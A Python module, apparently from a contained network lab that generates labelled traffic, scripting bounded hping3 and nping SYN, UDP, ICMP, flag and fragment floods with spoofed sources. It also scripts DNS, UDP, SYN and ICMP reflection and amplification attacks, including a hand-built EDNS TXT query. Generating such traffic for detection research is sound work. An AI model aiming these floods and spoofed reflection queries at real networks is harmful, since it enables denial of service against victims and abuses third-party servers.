# SPDX-License-Identifier: BSD-2-Clause
"""Attack scenarios that overwhelm: floods (hping3, nping) and reflection (hping3 with the victim's
address as its source, so that the reflectors' answers go to the victim, who never asked).

Every flood is bounded by a count. The lab's router drops what the victims answer to spoofed
sources.
"""
from .lab import MAC, address
from .scenario import TARGETS, scenario
from .services import REFLECTED

SERVICE_PORTS = (21, 22, 23, 25, 53, 80, 110, 123, 143, 443, 445, 993, 1883, 3306, 3389, 5060, 5432,
                 6379, 8080, 8443)

def hping(ctx, options, count, micros, target, timeout=12):
    return ctx.run(["hping3", "-I", "eth0", "-q", "-n", "-c", count, "-i", f"u{micros}", *options,
                    target], timeout)


def nping(ctx, options, target):
    """nping over IPv6 builds whole frames, and so must be told both MAC addresses."""
    return ctx.run(["nping", "-6", "-N", "-e", "eth0", "-S", ctx.own(), "--source-mac", MAC["atk"],
                    "--dest-mac", MAC["rt"], *options, target], 12, place="atk")


def source(ctx):
    """Spoofed at random for each packet, or the attacker's own address. The instance owns both
    the attacker and the victim, so either is labelled."""
    return ["--rand-source"] if ctx.rng.random() < 0.5 else ["-a", ctx.own()]


def pace(ctx):
    """Microseconds between packets: 60 to 3,000 packets a second."""
    return int(1e6 / 10 ** ctx.rng.uniform(1.8, 3.5))


def syn(ctx):
    """A bare SYN, as most tools send, or one with options, as a connection's has."""
    options = ([], [], [], [], [], ["--tcp-mss", 1460], ["--tcp-timestamp"],
               ["--tcp-mss", 1400, "--tcp-timestamp"])
    return ["-S", *ctx.rng.choice(options)]


def port(ctx):
    """A port to flood: a common service, one of the lab's, or any."""
    kind = ctx.rng.randrange(3)
    if kind == 0:
        return ctx.rng.choice(SERVICE_PORTS)
    return ctx.rng.choice(ctx.services.http + ctx.services.ssh) if kind == 1 else ctx.rng.randrange(
        1, 65536)


def several_ports(ctx, options, low, high):
    """The flood in parts, each to a port of its own."""
    parts = ctx.rng.randrange(2, 6)
    for _ in range(parts):
        hping(ctx, options + ["-p", port(ctx)], max(4, ctx.some(low, high) // parts), pace(ctx),
              ctx.own(1))


FLOODER = ("atk", "srv")


@scenario("flood", needs=FLOODER, families=(4,))
def flood_syn(ctx):
    """SYN flood of one port."""
    hping(ctx, [*syn(ctx), "-p", port(ctx), *source(ctx)], ctx.some(60, 120), pace(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,))
def flood_syn_ports(ctx):
    """SYN flood of several ports."""
    several_ports(ctx, [*syn(ctx), *source(ctx)], 60, 120)


@scenario("flood", needs=FLOODER, families=(4,))
def flood_flags(ctx):
    """ACK, RST, FIN, PSH+ACK, or SYN with ECE and CWR, with and without payload."""
    flags = ctx.rng.choice((["-A"], ["-R"], ["-F"], ["-P", "-A"], ["-S", "-X", "-Y"], ["-S", "-A"]))
    several_ports(ctx, [*flags, "-d", ctx.rng.choice((0, 0, 20, 300)), *source(ctx)], 40, 80)


@scenario("flood", needs=FLOODER, families=(4,))
def flood_udp(ctx):
    """UDP flood with datagrams of one size to one port."""
    hping(ctx, ["-2", "-p", port(ctx), "-d", ctx.rng.choice((0, 1, 10, 32, 64, 120, 512)),
                *source(ctx)], ctx.some(50, 100), pace(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,))
def flood_udp_ports(ctx):
    """UDP flood of several ports with several sizes."""
    options = source(ctx)
    for _ in range(ctx.rng.randrange(3, 7)):
        hping(ctx, ["-2", "-p", port(ctx), "-d", int(10 ** ctx.rng.uniform(0.5, 2.9)), *options],
              ctx.some(8, 16), pace(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,))
def flood_icmp(ctx):
    """Echo requests, many and of one size."""
    hping(ctx, ["-1", "-d", ctx.rng.choice((0, 8, 56, 56, 400)), *source(ctx)], ctx.some(30, 60),
          pace(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,))
def flood_fragments(ctx):
    """Datagrams in fragments."""
    hping(ctx, ["-2", "-f", "-m", 256, "-p", port(ctx), "-d", 700, *source(ctx)], ctx.some(8, 14),
          pace(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(6,))
def flood_six(ctx):
    """Floods over IPv6, with nping (hping3 knows IPv4 only), from several ports."""
    udp = ctx.rng.random() < 0.4
    target = port(ctx)
    for _ in range(ctx.rng.randrange(4, 8)):
        kind = ["--udp", "--data-length", ctx.rng.randrange(1, 200)] if udp else [
            "--tcp", "--flags", ctx.rng.choice(("syn", "syn", "syn", "ack"))]
        nping(ctx, [*kind, "-g", ctx.rng.randrange(1024, 65536), "-p", target, "--rate",
                    ctx.rng.randrange(60, 1000), "-c", ctx.some(10, 18)], ctx.own(1))


VICTIM = ("srv",)


def reflect(ctx, options, reflector, count, micros=None):
    """Queries in the victim's name to a reflector, from one of the victim's ports."""
    from_port = ctx.rng.choice((53, 80, 443, ctx.rng.randrange(1024, 65536)))
    ctx.run(["hping3", "-I", "eth0", "-q", "-n", "-a", ctx.own(), "-s", from_port, "-c", count,
             "-i", f"u{micros or pace(ctx)}", *ctx.rng.choice(([], ["-k"])), *options, reflector],
            10, place="atk")


def reflectors(ctx, count):
    first = ctx.rng.randrange(TARGETS - count + 1)
    return [address("rfl", first + n, 4) for n in range(count)]


def query(ctx, number):
    """A DNS query for a TXT record, with room for a big answer."""
    name = f"txt{number}.lab.example"
    words = b"".join(bytes([len(w)]) + w.encode() for w in name.split("."))
    return (ctx.rng.randbytes(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01" + words +
            b"\x00\x00\x10\x00\x01" + b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00")


@scenario("amplification", needs=VICTIM, families=(4,))
def reflect_dns(ctx):
    """Big TXT answers of open resolvers; the biggest come in fragments."""
    for reflector in reflectors(ctx, ctx.rng.randrange(3, 7)):
        data = query(ctx, ctx.rng.randrange(3, 16))
        path = ctx.services.path(f"{ctx.plan.name}-{reflector}")
        with open(path, "wb") as out:
            out.write(data)
        reflect(ctx, ["-2", "-p", 53, "-E", path, "-d", len(data)], reflector, ctx.some(4, 8))


@scenario("amplification", needs=VICTIM, families=(4,))
def reflect_udp(ctx):
    """Other protocols: clocks, device discovery, memory caches, directories."""
    for reflector in reflectors(ctx, ctx.rng.randrange(6, 10)):
        number = ctx.rng.choice(sorted(REFLECTED))
        reflect(ctx, ["-2", "-p", number, "-d", ctx.rng.randrange(1, 60)], reflector,
                max(1, ctx.some(14, 28) // len(REFLECTED[number])))


@scenario("amplification", needs=VICTIM, families=(4,))
def reflect_syn(ctx):
    """SYNs in the victim's name to web servers, whose SYN-ACKs go to the victim."""
    for reflector in reflectors(ctx, ctx.rng.randrange(3, 7)):
        reflect(ctx, ["-S", "-p", ctx.rng.choice(ctx.services.http + ctx.services.https)],
                reflector, ctx.some(6, 12))


@scenario("amplification", needs=VICTIM, families=(4,))
def reflect_icmp(ctx):
    """Echo replies that nobody asked for."""
    for reflector in reflectors(ctx, ctx.rng.randrange(2, 5)):
        reflect(ctx, ["-1", "-d", ctx.rng.choice((56, 400, 1200))], reflector, ctx.some(4, 8))


@scenario("amplification", needs=VICTIM, families=(6,))
def reflect_six(ctx):
    """The same over IPv6, with nping."""
    for _ in range(ctx.rng.randrange(4, 8)):
        data = ctx.rng.randbytes(ctx.rng.randrange(1, 40))
        number = ctx.rng.choice(sorted(REFLECTED))
        if ctx.rng.random() < 0.5:
            number, data = 53, query(ctx, ctx.rng.randrange(3, 16))
        nping(ctx, ["--udp", "-g", ctx.rng.randrange(1024, 65536), "-p", number, "--data",
                    data.hex(), "--rate", ctx.rng.randrange(50, 500), "-c", ctx.some(3, 6)],
              ctx.server("rfl"))
